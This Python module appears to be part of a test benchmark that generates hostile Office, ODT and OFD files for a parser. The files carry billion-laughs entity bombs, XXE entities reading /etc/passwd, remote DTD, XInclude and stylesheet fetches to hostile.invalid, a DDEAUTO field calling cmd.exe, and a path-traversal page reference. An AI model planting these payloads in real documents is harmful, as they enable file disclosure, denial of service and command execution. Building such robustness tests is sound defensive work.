"""Office files whose XML is hostile: entities, external references, depth, attributes, encodings that lie."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Iterator

from bench.hostile.case import TEXT, Case, kind
from bench.hostile.office import SHELLS, main_part, office

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BOMB = f'<!DOCTYPE d [<!ENTITY l0 "哈">{_LAUGHS}]>'
_SECRET = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_HOST = "http://hostile.invalid"
_DECLARED = '<?xml version="1.0" encoding="{}"?>'


@kind("xml: entities in entities")
def laughs(dice: random.Random) -> Iterator[Case]:
    """A billion laughs, also in UTF-16, where the bytes of <!DOCTYPE do not stand in the file, and in an attribute."""
    for form in SHELLS:
        yield Case(f"laughs.{form}", office(form, main_part(form, "&l9;", prolog=_BOMB)))
        wide = (_DECLARED.format("UTF-16") + main_part(form, "&l9;", prolog=_BOMB)).encode("utf-16")
        yield Case(f"laughs_utf16.{form}", office(form, wide))
    yield Case("attribute.docx", office("docx", main_part("docx", more='<w:p x="&l9;"/>', prolog=_BOMB)))
    wide = (_DECLARED.format("UTF-16") + main_part("docx", more='<w:p x="&l9;"/>', prolog=_BOMB)).encode("utf-16")
    yield Case("attribute_utf16.docx", office("docx", wide))


@kind("xml: one long entity")
def long_entity(dice: random.Random) -> Iterator[Case]:
    """An entity of a hundred kilobytes, used a hundred thousand times; and one that refers to itself."""
    prolog = f'<!DOCTYPE d [<!ENTITY a "{"a" * 100_000}">]>'
    for form in SHELLS:
        yield Case(f"long.{form}", office(form, main_part(form, "&a;" * 100_000, prolog=prolog)))
    loop = '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    yield Case("circle.docx", office("docx", main_part("docx", "&a;", prolog=loop)))


@kind("xml: external entities")
def external(dice: random.Random) -> Iterator[Case]:
    """Entities, parameters and document types that name a file of the machine or a place in the network."""
    for form in SHELLS:
        yield Case(f"file.{form}", office(form, main_part(form, "&x;", prolog=_SECRET)))
        parameter = f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{_HOST}/x.dtd"> %x;]>'
        yield Case(f"parameter.{form}", office(form, main_part(form, prolog=parameter)))
        wide = (_DECLARED.format("UTF-16") + main_part(form, "&x;", prolog=_SECRET)).encode("utf-16")
        yield Case(f"file_utf16.{form}", office(form, wide))
    yield Case("type.docx", office("docx", main_part("docx", prolog=f'<!DOCTYPE d SYSTEM "{_HOST}/d.dtd">')))
    include = f'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{_HOST}/x" parse="text"/></x>'
    yield Case("include.docx", office("docx", main_part("docx", more=include)), TEXT)
    sheet = f'<?xml-stylesheet type="text/xsl" href="{_HOST}/x.xsl"?>'
    yield Case("style_sheet.docx", office("docx", main_part("docx", prolog=sheet)), TEXT)


@kind("xml: too deep")
def deep(dice: random.Random) -> Iterator[Case]:
    """Elements a hundred thousand deep, and tables in tables in tables."""
    for form in SHELLS:
        yield Case(f"deep.{form}", office(form, main_part(form, more="<x>" * 100_000 + "</x>" * 100_000)))
    start, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    tables = start * 80 + "<w:p/>" + end * 80
    yield Case("tables.docx", office("docx", main_part("docx", more=tables)), TEXT)
    yield Case("more_tables.docx", office("docx", main_part("docx", more=start * 2000 + end * 2000)))
    groups = "<text:section>" * 200 + "<text:p/>" + "</text:section>" * 200
    yield Case("sections.odt", office("odt", main_part("odt", more=groups)), TEXT)


@kind("xml: attributes and names")
def attributes(dice: random.Random) -> Iterator[Case]:
    """Ten thousands of attributes, of name spaces, of names of their own, and attributes of megabytes."""
    many = "".join(f' a{n}="1"' for n in range(100_000))
    spaces = "".join(f' xmlns:n{n}="urn:{n}"' for n in range(20_000))
    names = "".join(f"<n{n}/>" for n in range(100_000))
    for form in ("docx", "odt", "xlsx"):
        yield Case(f"many.{form}", office(form, main_part(form, more=f"<x{many}/>")), TEXT)
        yield Case(f"spaces.{form}", office(form, main_part(form, more=f"<x{spaces}/>")), TEXT)
    yield Case("names.docx", office("docx", main_part("docx", more=names)), TEXT)
    long, comment = f'<x a="{"a" * 11_000_000}"/>', f"<!--{'a' * 9_000_000}-->"
    yield Case("long.docx", office("docx", main_part("docx", more=long), method=zipfile.ZIP_STORED))
    yield Case("comment.docx", office("docx", main_part("docx", more=comment), method=zipfile.ZIP_STORED), TEXT)


@kind("xml: encodings that lie")
def encodings(dice: random.Random) -> Iterator[Case]:
    """Declarations of other encodings than the bytes have, of none there is, and bytes that are none."""
    body = main_part("docx")
    yield Case("utf16_declared.docx", office("docx", _DECLARED.format("UTF-16") + body))
    yield Case("gbk_declared.docx", office("docx", (_DECLARED.format("GBK") + body).encode("gbk")), TEXT)
    yield Case("unknown.docx", office("docx", _DECLARED.format("X-NONE") + body))
    yield Case("ebcdic.docx", office("docx", main_part("docx", "12").encode("cp500")))
    yield Case("no_mark.docx", office("docx", body.encode("utf-16-le")))
    yield Case("nulls.docx", office("docx", body.replace("年", "\0")))
    yield Case("broken_utf8.docx", office("docx", body.encode()[:-40] + b"\xff\xfe" + body.encode()[-40:]))
    yield Case("surrogates.docx", office("docx", main_part("docx", "&#xD800;&#xDC00;")))


@kind("office: external parts")
def references(dice: random.Random) -> Iterator[Case]:
    """Templates, pictures, objects and sheets that lie elsewhere: what is there is no part of the text, and not fetched."""
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    for name in ("attachedTemplate", "image", "oleObject", "aFChunk", "frame", "hyperlink"):
        relation = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r9" Type="{kinds}/{name}" Target="{_HOST}/{name}" TargetMode="External"/></Relationships>'
        )
        body = f'<w:p xmlns:r="{kinds}"><w:altChunk r:id="r9"/><w:object r:id="r9"/></w:p>'
        parts = {"word/_rels/document.xml.rels": relation, "word/_rels/settings.xml.rels": relation}
        yield Case(f"{name}.docx", office("docx", main_part("docx", more=body), parts), TEXT)
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    for name in (
        f"INCLUDETEXT {_HOST}/x",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        f'INCLUDEPICTURE "{_HOST}/x" \\d',
    ):
        data = office("docx", main_part("docx", more=field.format(name)))
        yield Case(f"{name.split()[0].lower()}.docx", data, TEXT)
    link = f'<text:p><draw:image xmlns:draw="urn:d" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{_HOST}/x"/></text:p>'
    yield Case("image.odt", office("odt", main_part("odt", more=link)), TEXT)
    book = f'<externalLink><externalBook href="{_HOST}/x.xlsx"/></externalLink>'
    yield Case("workbook.xlsx", office("xlsx", more_parts={"xl/externalLinks/externalLink1.xml": book}), TEXT)
    away = (
        SHELLS["ofd"].others["D/Document.xml"].replace("</Pages>", '<Page BaseLoc="../../../../etc/passwd"/></Pages>')
    )
    yield Case("page_outside.ofd", office("ofd", more_parts={"D/Document.xml": away}))
